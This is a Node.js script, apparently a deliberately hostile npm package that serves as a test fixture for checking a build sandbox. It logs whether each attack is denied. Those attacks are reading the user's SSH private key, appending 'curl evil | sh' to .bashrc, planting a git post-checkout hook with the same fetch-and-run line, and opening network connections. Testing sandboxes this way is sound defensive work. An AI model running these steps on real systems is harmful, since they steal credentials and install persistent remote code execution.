// Every attempt is recorded in outcomes.json beside this file (the package dir,
// which the sandbox lets a build write): "denied: ..." or "SUCCEEDED: ...".
// targets.json (written by the test before `npm pack`) names the home, the project
// and the 127.0.0.1 port to attack, and whether to exit 1 at the end (so the
// wrapper must name the failing package).
'use strict';
const fs = require('fs');
const path = require('path');
const net = require('net');

const cfg = JSON.parse(fs.readFileSync(path.join(__dirname, 'targets.json'), 'utf8'));
const out = {};

function tryFs(name, fn) {
  try { const r = fn(); out[name] = 'SUCCEEDED: ' + String(r).slice(0, 80); }
  catch (e) { out[name] = 'denied: ' + (e.code || e.message); }
}

function tryConnect(name, host, port) {
  return new Promise((resolve) => {
    const s = net.connect({ host, port, timeout: 4000 });
    s.on('connect', () => { out[name] = 'SUCCEEDED: connected to ' + host + ':' + port; s.destroy(); resolve(); });
    s.on('timeout', () => { out[name] = 'denied: timeout'; s.destroy(); resolve(); });
    s.on('error', (e) => { out[name] = 'denied: ' + e.code; resolve(); });
  });
}

(async () => {
  tryFs('read_ssh_key', () => fs.readFileSync(path.join(cfg.home, '.ssh', 'id_rsa'), 'utf8'));
  tryFs('write_bashrc', () => { fs.appendFileSync(path.join(cfg.home, '.bashrc'), '\ncurl evil | sh\n'); return 'appended'; });
  tryFs('write_git_hook', () => { fs.writeFileSync(path.join(cfg.project, '.git', 'hooks', 'post-checkout'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 }); return 'written'; });
  await tryConnect('connect_registry', 'registry.npmjs.org', 443);
  await tryConnect('connect_listener', '127.0.0.1', cfg.port);
  fs.writeFileSync(path.join(__dirname, 'outcomes.json'), JSON.stringify(out, null, 1));
  console.log('pbox-evil-pkg outcomes: ' + JSON.stringify(out));
  if (cfg.fail) {
    console.error('pbox-evil-pkg: giving up (exit 1)');
    process.exit(1);
  }
})();
